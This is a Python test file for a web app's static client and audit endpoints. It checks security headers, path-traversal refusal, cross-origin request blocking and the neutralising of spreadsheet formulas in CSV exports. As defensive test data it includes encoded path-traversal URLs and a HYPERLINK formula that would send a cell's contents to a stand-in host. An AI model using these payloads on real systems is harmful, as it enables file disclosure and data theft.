"""The browser client's files as the server serves them, and the POST audit search it uses.

What the client does in a browser is tested with Playwright in tests/browser.
"""

from __future__ import annotations

import csv
import io
import re
from importlib import resources
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from mi2b2.api.app import create_app
from mi2b2.services.context import ServiceContext, build_context
from mi2b2.testing import FakeClock
from support.site import load_site
from support.viewing import ROOT, Cached, fill

CLIENT = Path(str(resources.files("mi2b2.web").joinpath("static", "app")))
OUTSIDE = re.compile(r"(src|href)=\"https?://|@import|url\(http|fonts\.googleapis|https?://[a-z0-9.-]+\.(com|net|org|io)/")


@pytest.fixture
def ctx(tmp_path: Path) -> ServiceContext:
    return build_context(load_site(tmp_path / "site"), clock=FakeClock())


@pytest.fixture
def client(ctx: ServiceContext) -> TestClient:
    return TestClient(create_app(ctx))


@pytest.fixture
def seeded(ctx: ServiceContext, tmp_path: Path) -> Cached:
    return fill(ctx, tmp_path / "files")


def client_files() -> list[Path]:
    return sorted(p for p in CLIENT.rglob("*") if p.is_file())


def test_every_client_file_is_served_from_mi2b2_with_a_strict_policy(client: TestClient) -> None:
    assert client_files(), "the client's files are missing from the package"
    for file in client_files():
        relative = file.relative_to(CLIENT).as_posix()
        response = client.get(f"/app/{relative}")
        assert response.status_code == 200, relative
        assert response.content == file.read_bytes()
        policy = response.headers["content-security-policy"]
        assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy
        assert response.headers["x-content-type-options"] == "nosniff"
        assert not OUTSIDE.search(response.text), f"{relative} refers to an outside resource"


def test_the_entry_points_lead_to_the_client(client: TestClient) -> None:
    assert client.get("/", follow_redirects=False).headers["location"] == "/app/"
    assert client.get("/app", follow_redirects=False).headers["location"] == "/app/"
    page = client.get("/app/")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert '<script type="module" src="js/main.js">' in page.text


def test_every_module_the_client_imports_exists() -> None:
    imports = re.compile(r"""^import .* from "\./([a-z]+\.js)";$""", re.MULTILINE)
    for module in (CLIENT / "js").glob("*.js"):
        for name in imports.findall(module.read_text()):
            assert (CLIENT / "js" / name).is_file(), f"{module.name} imports a missing {name}"


@pytest.mark.parametrize("path", ["/app/js/..%2F..%2Fviewer%2Fviewer.js", "/app/%2e%2e%2F%2e%2e%2Fviewer%2Fviewer.js",
                                  "/app/secrets.txt", "/app/js/none.js", "/app/%2e%2e/app.css"])
def test_nothing_outside_the_client_folder_is_served(client: TestClient, path: str) -> None:
    response = client.get(path)
    assert response.status_code == 404
    assert response.json()["error"].startswith("no client file")  # refused by the client's own door


def test_the_viewer_may_be_framed_by_the_client_only(client: TestClient) -> None:
    policy = client.get("/viewer/").headers["content-security-policy"]
    assert "frame-ancestors 'self'" in policy


def test_audit_search_takes_its_patient_filter_in_the_body(client: TestClient, seeded: Cached,
                                                           ctx: ServiceContext) -> None:
    ctx.audit.record("alice", "query", project_id="alpha", patient_id="000123")  # type: ignore[arg-type]
    ctx.audit.record("alice", "query", project_id="alpha", patient_id="77")  # type: ignore[arg-type]
    found = client.post("/api/v1/audit/search", json={"patient": "000123", "project": " alpha "},
                        headers=seeded.headers("audrey"))
    assert found.status_code == 200
    assert [e["patient_id"] for e in found.json()] == ["000123"]
    exported = client.post("/api/v1/audit/export.csv", json={"patient": "77"}, headers=seeded.headers("audrey"))
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert {row["patient_id"] for row in rows} == {"77"}
    # the query itself, and the export (reading the trail is audited with its patient filter)
    assert [row["action"] for row in rows] == ["query", "audit_read"]
    refused = client.post("/api/v1/audit/search", json={}, headers=seeded.headers("alice"))
    assert refused.status_code == 403 and "auditors" in refused.json()["error"]
    unknown_field = client.post("/api/v1/audit/search", json={"patients": "x"}, headers=seeded.headers("audrey"))
    assert unknown_field.status_code == 422 and "patients" in unknown_field.json()["error"]


def test_a_cookie_change_from_another_origin_is_refused(client: TestClient, ctx: ServiceContext) -> None:
    ctx.accounts.add_user(ROOT, "rita", "admin", "rita-password-1")
    assert client.post("/api/v1/auth/login", json={"login": "rita", "password": "rita-password-1"}).status_code == 200
    reload = "/api/v1/admin/config/reload"
    foreign = client.post(reload, headers={"Origin": "https://wiki.example.org"})
    assert foreign.status_code == 403 and "another site" in foreign.json()["error"]
    assert client.post(reload, headers={"Sec-Fetch-Site": "same-site"}).status_code == 403
    assert client.post(reload, headers={"Sec-Fetch-Site": "same-origin"}).status_code == 200
    assert client.post(reload, headers={"Origin": "http://testserver"}).status_code == 200
    assert client.get("/api/v1/auth/me", headers={"Sec-Fetch-Site": "cross-site"}).status_code == 200  # reads are safe
    token = ctx.accounts.create_token(ROOT, "rita", "script").secret
    with_token = client.post(reload, headers={"Origin": "https://wiki.example.org", "Authorization": f"Bearer {token}"})
    assert with_token.status_code == 200  # a token is not sent by a browser on its own


def test_the_audit_export_cannot_carry_a_spreadsheet_formula(client: TestClient, seeded: Cached,
                                                              ctx: ServiceContext) -> None:
    formula = '=HYPERLINK("http://x.example/?"&B2,"open")'
    refused = client.post("/api/v1/auth/login", json={"login": formula, "password": "whatever"})
    assert refused.status_code == 403
    ctx.audit.record("alice", "query", project_id="alpha", patient_id="=1+2")  # type: ignore[arg-type]
    exported = client.post("/api/v1/audit/export.csv", json={}, headers=seeded.headers("audrey"))
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert formula not in exported.text
    assert "(not a login name)" in {row["actor"] for row in rows}
    assert "'=1+2" in {row["patient_id"] for row in rows}
